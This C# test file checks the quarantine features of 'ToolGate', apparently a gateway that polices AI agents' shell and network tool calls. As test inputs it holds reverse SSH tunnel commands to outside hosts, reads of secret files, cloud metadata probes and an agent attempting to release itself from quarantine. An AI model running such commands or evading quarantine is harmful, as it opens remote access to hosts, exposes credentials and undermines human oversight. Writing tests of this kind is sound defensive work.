using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using ToolGate.Gateway.Tests.Infrastructure;

namespace ToolGate.Gateway.Tests.Quarantine;

/// <summary>The gateway with loopback opened (for tunnels), a signed webhook to a real loopback receiver, fast retries.</summary>
public sealed class QuarantineFixture : GatewayFixture
{
    public const string WebhookSecret = "webhook-secret-0123456789";

    public WebhookReceiver Webhook { get; private set; } = null!;

    protected override IDictionary<string, string?> Settings => new Dictionary<string, string?>
    {
        ["ToolGate:Egress:AllowedNetworks:0"] = "127.0.0.1/32",
        ["ToolGate:Alerts:WebhookUrl"] = Webhook.Url.ToString(),
        ["ToolGate:Alerts:WebhookSecret"] = WebhookSecret,
        ["ToolGate:Alerts:RetryDelayMilliseconds"] = "20",
    };

    public override async Task InitializeAsync()
    {
        Webhook = await WebhookReceiver.StartAsync();
        await base.InitializeAsync();
    }

    public override async Task DisposeAsync()
    {
        await base.DisposeAsync();
        await Webhook.DisposeAsync();
    }

    /// <summary>The next alert about <paramref name="agentId"/> (alerts about other agents are skipped).</summary>
    public async Task<(JsonElement Body, string? Signature, byte[] Raw)> NextAlertAsync(string agentId, TimeSpan? timeout = null)
    {
        var deadline = TimeProvider.System.GetUtcNow() + (timeout ?? TimeSpan.FromSeconds(10));
        while (true)
        {
            var left = deadline - TimeProvider.System.GetUtcNow();
            var alert = await Webhook.NextAsync(left > TimeSpan.Zero ? left : TimeSpan.Zero);
            if (alert.Body.Text("agentId") == agentId)
            {
                return alert;
            }
        }
    }
}

public sealed class QuarantineTests(QuarantineFixture fixture) : IClassFixture<QuarantineFixture>
{
    private readonly GatewayHarness _gateway = fixture.Gateway;

    private async Task<(string Id, string Key, HttpClient Client, string Cwd)> AgentWithShellGrantAsync()
    {
        var cwd = Directory.CreateTempSubdirectory("toolgate-cwd-").FullName;
        var (id, key, client) = await _gateway.CreateAgentAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "shell", allow = new[] { "echo *", "sleep *" }, paths = new[] { cwd + "/**" } });
        return (id, key, client, cwd);
    }

    private static StringContent Shell(string command, string cwd) => Json.Body(JsonSerializer.Serialize(new { command, cwd }));

    private static async Task<(HttpStatusCode Status, string Rule, string? DecisionId)> CallAsync(HttpClient client, string command, string cwd)
    {
        using var response = await client.PostAsync("/tools/shell", Shell(command, cwd));
        if (response.IsSuccessStatusCode)
        {
            return (response.StatusCode, "allow", response.Headers.GetValues("X-ToolGate-Decision-Id").Single());
        }

        var problem = await Json.ReadAsync(response);
        return (response.StatusCode, problem.Text("rule"), problem.TryGetProperty("decisionId", out var d) ? d.GetString() : null);
    }

    [Fact]
    public async Task BurstOfDenials_QuarantinesTheAgent_AndEveryLaterActionIsDenied()
    {
        var (id, _, client, cwd) = await AgentWithShellGrantAsync();
        Assert.Equal(HttpStatusCode.OK, (await CallAsync(client, "echo fine", cwd)).Status);
        var denied = new List<string>();
        for (var i = 0; i < 5; i++)
        {
            var (status, rule, decisionId) = await CallAsync(client, $"cat secret-{i}.txt", cwd);
            Assert.Equal(HttpStatusCode.Forbidden, status);
            Assert.Equal("default-deny", rule);
            denied.Add(decisionId!);
        }

        var after = await CallAsync(client, "echo fine", cwd);

        Assert.Equal(HttpStatusCode.Forbidden, after.Status);
        Assert.Equal("quarantined", after.Rule);
        var listed = (await _gateway.Admin.GetFromJsonAsync<JsonElement>("/v1/quarantine")).EnumerateArray().Single(q => q.Text("agentId") == id);
        Assert.Equal("behaviour", listed.Text("by"));
        Assert.Equal("behaviour:denial-burst", listed.Text("rule"));
        Assert.Equal(denied, listed.GetProperty("evidence").EnumerateArray().Select(e => e.GetString()));
        var alert = (await fixture.NextAlertAsync(id)).Body;
        Assert.Equal("quarantine", alert.Text("kind"));
        Assert.True(alert.GetProperty("quarantined").GetBoolean());
        Assert.Equal(denied, alert.GetProperty("evidence").EnumerateArray().Select(e => e.GetString()));
        var records = await _gateway.AuditAsync($"agentId={id}");
        Assert.Contains(records, r => r.Text("stage") == "quarantine" && r.Text("decision") == "quarantined");
        Assert.Contains(records, r => r.Text("decision") == "deny" && r.Text("rule") == "quarantined");
    }

    [Fact]
    public async Task CriticalGuardrail_QuarantinesAtOnce_WithOneSignedAlertCarryingTheEvidence()
    {
        var (id, _, client, cwd) = await AgentWithShellGrantAsync();

        var tunnel = await CallAsync(client, "ssh -N -R 9000:localhost:22 agent@203.0.113.7", cwd);
        var next = await CallAsync(client, "echo innocent", cwd);

        Assert.Equal(HttpStatusCode.Forbidden, tunnel.Status);
        Assert.StartsWith("guardrail:", tunnel.Rule, StringComparison.Ordinal);
        Assert.Equal("quarantined", next.Rule);
        var (body, signature, raw) = await fixture.NextAlertAsync(id);
        Assert.Equal("quarantine", body.Text("kind"));
        Assert.Equal("critical", body.Text("severity"));
        Assert.Equal("behaviour:critical-guardrail", body.Text("rule"));
        Assert.Equal([tunnel.DecisionId], body.GetProperty("evidence").EnumerateArray().Select(e => e.GetString()));
        var expected = "sha256=" + Convert.ToHexStringLower(HMACSHA256.HashData(Encoding.UTF8.GetBytes(QuarantineFixture.WebhookSecret), raw));
        Assert.Equal(expected, signature);
        // The evidence is in the audit trail, and the chain still verifies with the quarantine record in it.
        Assert.Single(await _gateway.AuditAsync($"decisionId={tunnel.DecisionId}"));
        var verify = await _gateway.Admin.GetFromJsonAsync<JsonElement>("/v1/audit/verify");
        Assert.True(verify.GetProperty("valid").GetBoolean());
    }

    [Fact]
    public async Task ManualQuarantine_CutsALiveTunnelAndASlowToolCall()
    {
        using var echo = new CountingTcpServer(IPAddress.Loopback);
        var (id, key, client, cwd) = await AgentWithShellGrantAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "network", allow = new[] { $"127.0.0.1:{echo.EndPoint.Port}" } });
        using var proxy = await ProxyClient.OpenAsync(_gateway.EgressUrl);
        Assert.Equal(200, (await proxy.ConnectAsync($"127.0.0.1:{echo.EndPoint.Port}", key)).Status);
        var slow = client.PostAsync("/tools/shell", Shell("sleep 8", cwd));
        await WaitUntilAsync(async () => (await _gateway.AuditAsync($"agentId={id}&capability=shell")).Count > 0);
        var started = Stopwatch.StartNew();

        using var quarantined = await _gateway.Admin.PostAsJsonAsync($"/v1/agents/{id}/quarantine", new { reason = "investigating a report" });

        Assert.Equal(HttpStatusCode.OK, quarantined.StatusCode);
        Assert.True(await proxy.ClosesWithinAsync(TimeSpan.FromSeconds(5)), "the tunnel outlived the quarantine");
        await Assert.ThrowsAnyAsync<Exception>(async () => (await slow).EnsureSuccessStatusCode());
        Assert.True(started.Elapsed < TimeSpan.FromSeconds(7), $"the slow call ran on for {started.Elapsed} after the quarantine");
        await WaitUntilAsync(async () => (await _gateway.AuditAsync($"agentId={id}&capability=shell")).Any(r => r.Text("stage") == "outcome"));
        var outcome = (await _gateway.AuditAsync($"agentId={id}&capability=shell")).Single(r => r.Text("stage") == "outcome");
        Assert.Equal("error", outcome.Text("decision"));
        Assert.Equal("quarantined", outcome.Text("rule"));
        using var again = await _gateway.Admin.PostAsJsonAsync($"/v1/agents/{id}/quarantine", new { reason = "twice" });
        Assert.Equal(HttpStatusCode.Conflict, again.StatusCode);
        var alert = (await fixture.NextAlertAsync(id)).Body;
        Assert.Contains("investigating a report", alert.Text("summary"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Quarantine_SurvivesARestart_AndReleaseRestoresService()
    {
        var (id, key, _, cwd) = await AgentWithShellGrantAsync();
        using (var quarantined = await _gateway.Admin.PostAsJsonAsync($"/v1/agents/{id}/quarantine", new { reason = "test" }))
        {
            Assert.Equal(HttpStatusCode.OK, quarantined.StatusCode);
        }

        await _gateway.RestartAsync();
        using var client = _gateway.AgentClient(key);

        Assert.Equal("quarantined", (await CallAsync(client, "echo after restart", cwd)).Rule);
        using (var noReason = await _gateway.Admin.PostAsJsonAsync($"/v1/agents/{id}/release", new { }))
        {
            Assert.Equal(HttpStatusCode.BadRequest, noReason.StatusCode);
        }

        Assert.Equal("quarantined", (await CallAsync(client, "echo still", cwd)).Rule);
        using (var released = await _gateway.Admin.PostAsJsonAsync($"/v1/agents/{id}/release", new { reason = "false positive, checked the logs" }))
        {
            Assert.Equal(HttpStatusCode.NoContent, released.StatusCode);
        }

        Assert.Equal(HttpStatusCode.OK, (await CallAsync(client, "echo back", cwd)).Status);
        Assert.DoesNotContain((await _gateway.Admin.GetFromJsonAsync<JsonElement>("/v1/quarantine")).EnumerateArray(), q => q.Text("agentId") == id);
        var release = (await _gateway.AuditAsync($"agentId={id}&decision=released")).Single();
        Assert.Equal("false positive, checked the logs", release.Text("reason"));
        using var notQuarantined = await _gateway.Admin.PostAsJsonAsync($"/v1/agents/{id}/release", new { reason = "again" });
        Assert.Equal(HttpStatusCode.NotFound, notQuarantined.StatusCode);
    }

    [Fact]
    public async Task QuarantiningAnUnknownAgent_Is404_AndTheAgentKeyCannotReachTheApi()
    {
        var (_, key, _, _) = await AgentWithShellGrantAsync();

        using var unknown = await _gateway.Admin.PostAsJsonAsync("/v1/agents/no-such-agent/quarantine", new { reason = "x" });
        using var asAgent = new HttpClient { BaseAddress = _gateway.AdminUrl };
        asAgent.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", key);
        using var release = await asAgent.PostAsJsonAsync("/v1/agents/x/release", new { reason = "let me out" });

        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, release.StatusCode);
    }

    [Fact]
    public async Task AnInternalScan_RaisesAProbeAlert_WithEveryProbeAsEvidence()
    {
        var (id, _, client) = await _gateway.CreateAgentAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "network", allow = new[] { "*" } });
        var probes = new List<string>();
        foreach (var target in new[] { "http://10.0.0.1/", "http://10.0.0.2:8080/", "http://169.254.169.254/latest/meta-data/" })
        {
            using var response = await client.PostAsync("/tools/fetch", Json.Body(JsonSerializer.Serialize(new { url = target })));
            var problem = await Json.ReadAsync(response);
            Assert.Equal("guardrail:network.address-class", problem.Text("rule"));
            probes.Add(problem.Text("decisionId"));
        }

        var alerts = new[] { (await fixture.NextAlertAsync(id)).Body, (await fixture.NextAlertAsync(id)).Body };

        Assert.Equal("guardrail-hit", alerts[0].Text("kind"));
        Assert.Equal("internal-probe", alerts[1].Text("kind"));
        Assert.False(alerts[1].GetProperty("quarantined").GetBoolean());
        Assert.Equal(probes, alerts[1].GetProperty("evidence").EnumerateArray().Select(e => e.GetString()));
    }

    [Fact]
    public async Task AFailingReceiver_IsRetried_UntilItTakesTheAlert()
    {
        var (id, _, client, cwd) = await AgentWithShellGrantAsync();
        fixture.Webhook.FailNext(2);

        await CallAsync(client, "ssh -R 1:localhost:22 x@203.0.113.9", cwd);

        var alert = (await fixture.NextAlertAsync(id)).Body;
        Assert.Equal("quarantine", alert.Text("kind"));
    }

    private static async Task WaitUntilAsync(Func<Task<bool>> condition)
    {
        for (var i = 0; i < 100; i++)
        {
            if (await condition())
            {
                return;
            }

            await Task.Delay(TimeSpan.FromMilliseconds(50), TimeProvider.System);
        }

        Assert.Fail("the condition did not hold within 5 s");
    }
}
